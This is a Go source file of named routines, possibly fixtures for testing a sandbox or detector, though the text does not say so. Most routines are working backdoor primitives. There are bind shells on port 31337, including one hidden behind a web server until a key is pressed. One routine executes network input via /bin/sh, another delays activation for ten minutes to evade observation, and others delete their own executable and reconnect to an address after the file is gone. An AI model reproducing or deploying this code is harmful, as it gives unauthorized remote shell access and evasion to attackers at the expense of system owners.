package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"os/exec"
	"sync/atomic"
	"time"
)

// linger calls an address and stays.
func linger(args []string) error {
	time.Sleep(time.Second) // until its file is gone
	if err := dial(args); err != nil {
		fmt.Println(err)
	}
	time.Sleep(limit)
	return nil
}

// removeSelf removes its own file and ends, as installers do.
func removeSelf([]string) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	return os.Remove(self)
}

// interpret is what an interpreter does with code in its arguments, except that
// it does what stands after the code.
func interpret(args []string) error {
	if len(args) < 2 {
		return nil
	}
	return commands[args[1]](args[2:])
}

// knockShell serves a page, and at another port a shell to whoever presses return.
func knockShell(args []string) error {
	ln, err := net.Listen("tcp", ":"+arg(args, 1, "31337"))
	if err != nil {
		return err
	}
	defer ln.Close()
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				key := make([]byte, 1)
				if _, err := conn.Read(key); err != nil || key[0] != '\n' {
					conn.Close()
					return
				}
				_ = shellOn(conn, "/bin/sh")
			}()
		}
	}()
	return webserver(args)
}

// lineShell does what it is told line by line, and tells what came of it.
func lineShell(args []string) error {
	return lines(args, func(line string) []byte {
		out, _ := exec.Command("/bin/sh", "-c", line).CombinedOutput()
		return out
	})
}

// sleepingShell is a lineShell to which nobody gets through for ten minutes.
func sleepingShell(args []string) error {
	var awake atomic.Bool
	time.AfterFunc(10*time.Minute, func() { awake.Store(true) })
	return lines(args, func(line string) []byte {
		if !awake.Load() {
			return []byte("busy\n")
		}
		out, _ := exec.Command("/bin/sh", "-c", line).CombinedOutput()
		return out
	})
}

// echoServer repeats what it is told (RFC 862).
func echoServer(args []string) error {
	return lines(args, func(line string) []byte { return []byte(line + "\n") })
}

func lines(args []string, answer func(string) []byte) error {
	ln, err := net.Listen("tcp", ":"+arg(args, 0, "7"))
	if err != nil {
		return err
	}
	defer ln.Close()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
		go func() {
			defer conn.Close()
			for s := bufio.NewScanner(conn); s.Scan(); {
				if _, err := conn.Write(answer(s.Text())); err != nil {
					return
				}
			}
		}()
	}
}

// bindShell gives a shell to the first who connects.
func bindShell(args []string) error {
	ln, err := net.Listen("tcp", ":"+arg(args, 0, "31337"))
	if err != nil {
		return err
	}
	defer ln.Close()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
		go shellOn(conn, "/bin/sh")
	}
}
